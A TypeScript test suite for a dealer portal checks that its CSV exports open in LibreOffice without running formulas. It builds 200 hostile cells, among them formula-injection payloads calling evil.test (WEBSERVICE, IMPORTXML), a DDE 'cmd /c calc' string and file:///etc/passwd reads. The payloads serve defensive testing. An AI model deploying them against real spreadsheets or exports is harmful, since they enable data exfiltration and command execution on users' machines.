import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { type Cell, type Separator, spreadsheetSeparator, toCsv } from '#core/contract/csv.ts'
import { locales } from '#core/contract/locale.ts'
import { givenDealer, givenUser } from '#test/people.ts'
import { startPortal } from '#test/portal.ts'

const folder = mkdtempSync(join(tmpdir(), 'comptoir-office-'))
after(() => rmSync(folder, { recursive: true }))

const portal = await startPortal({ RATE_LIMIT: '1000' })
after(portal.close)

const opened = (rows: readonly (readonly Cell[])[], separator: Separator) =>
  openedFile(toCsv(rows, separator), separator)

/** Opens a file with LibreOffice, and returns its cells with their values and formulas. */
function openedFile(file: string | Buffer, separators: string, quotedIsText = true): string {
  writeFileSync(join(folder, 'file.csv'), file)
  const codes = separators
    .split('')
    .map((one) => one.charCodeAt(0))
    .join('/')
  // These options are the separators, the quote, UTF-8, the first line, and English.
  const filter = `CSV:${codes},34,76,1,,1033,${quotedIsText},true,false`
  const { status, stderr } = spawnSync(
    'soffice',
    [
      `-env:UserInstallation=file://${folder}/profile`,
      '--headless',
      `--infilter=${filter}`,
      '--convert-to',
      'fods',
      '--outdir',
      folder,
      join(folder, 'file.csv'),
    ],
    { encoding: 'utf8', timeout: 120_000 },
  )
  assert.equal(status, 0, stderr)
  return readFileSync(join(folder, 'file.fods'), 'utf8')
}

const dangerous = ['=', '+', '-', '@', '\t=', '\r=', "'=", '=\n', '"=', ' =']
const payloads = [
  '1+1',
  'SUM(1,1)',
  'HYPERLINK("http://evil.test","x")',
  'WEBSERVICE("http://evil.test")',
  "cmd|'/c calc'!A0",
  'DDE("soffice";"/etc/passwd";"x")',
  "'file:///etc/passwd'#$x.A1",
  'IMPORTXML("http://evil.test","//a")',
  'RAND()',
  '@SUM(A1:A2)',
  '1;=1+1',
  '1,=1+1',
  '1\n=1+1',
  '1\r\n=1+1',
  '"",=1+1,""',
  'é’œ',
  '$A$1',
  '1E5',
  'TODAY()',
  'INFO("system")',
]
const hostile = dangerous.flatMap((start) => payloads.map((payload) => start + payload))

for (const locale of locales) {
  const separator = spreadsheetSeparator(locale)

  void test(`H147: LibreOffice runs none of 200 hostile cells (${locale})`, () => {
    assert.equal(hostile.length, 200)
    const sheet = opened(
      hostile.map((cell) => ['before', cell, 'after']),
      separator,
    )
    assert.doesNotMatch(sheet, /table:formula=/)
    assert.equal(sheet.match(/<text:p>before<\/text:p>/g)?.length, 200)
    assert.equal(sheet.match(/<text:p>after<\/text:p>/g)?.length, 200, 'no cell spills into another')
  })

  void test(`H147: nor does it where it separates by other characters than the file (${locale})`, () => {
    const begun = [
      'x,=1+1',
      'x;=1+1',
      'x\t=1+1',
      'x\n=1+1',
      'x"=1+1',
      'x;"=1+1',
      'x,+1+1,y',
      'x;-1-1;y',
      'x;@NOW();y',
    ]
    const rows = [...hostile, ...begun].map((cell) => ['before', cell, 'after'])
    const file = toCsv(rows, separator)
    // The dialog proposes all separators; people may also choose a wrong one, or that quoted values are no texts.
    for (const separators of [',;\t', ',', ';', '\t'])
      assert.doesNotMatch(openedFile(file, separators, false), /table:formula=/, JSON.stringify(separators))
    const whole = openedFile(file, ',;\t')
    assert.equal(whole.match(/<text:p>after<\/text:p>/g)?.length, rows.length, 'no cell spills into another')
  })

  void test(`the leading zeros of a Sold To are kept, and numbers are numbers (${locale})`, () => {
    const sheet = opened([['00123', '0', 12.5]], separator)
    assert.ok(sheet.includes('<text:p>00123</text:p>'))
    assert.doesNotMatch(sheet, /office:value="123"/)
    assert.match(sheet, /office:value="12.5"/)
  })

  void test(`accents are read as they were written (${locale})`, () => {
    const sheet = opened([['Prénom', 'Œuvre d’été', 'Ça, là; «\u00a0ô\u00a0»']], separator)
    for (const text of ['Prénom', 'Œuvre d’été', 'Ça, là; «\u00a0ô\u00a0»'])
      assert.ok(sheet.includes(`<text:p>${text}</text:p>`), text)
  })

  void test(`H147: the export of people with hostile names is opened without a formula (${locale})`, async () => {
    const { db, origin } = portal
    const { headers } = await portal.signedIn({
      permissions: ['view-reports', 'view-users', 'access-all-dealers'],
    })
    const dealerId = await givenDealer(db, '=HYPERLINK("http://evil.test")')
    const soldTo = `00${Math.trunc(Math.random() * 1e8)}`
    await db.rows`update dealers set sold_to = ${soldTo} where id = ${dealerId}`
    for (const [n, name] of hostile.entries()) {
      const id = await givenUser(db, { dealerId })
      // Only an import could store these names, because the forms refuse line breaks.
      await db.rows`
        update users set last_name = ${name}, first_name = 'before',
                         email = ${`=${n}${locale}+1@example.test`} where id = ${id}`
    }
    const token = await fetch(`${origin}/api/Report/Token`, { method: 'POST', headers })
    const { data } = (await token.json()) as { data: string }
    const name = separator === ';' ? 'semicolon' : 'comma'
    const file = await fetch(`${origin}/api/Report/AllUsers?token=${data}&locale=${locale}&separator=${name}`)
    assert.equal(file.status, 200)
    const sheet = openedFile(Buffer.from(await file.arrayBuffer()), separator)
    assert.doesNotMatch(sheet, /table:formula=/)
    const befores = sheet.match(/<text:p>before<\/text:p>/g)?.length ?? 0
    assert.ok(befores >= hostile.length && befores % hostile.length === 0, `${befores}`)
    assert.ok(sheet.includes(`<text:p>${soldTo}</text:p>`), 'the Sold To keeps its zeros')
  })
}
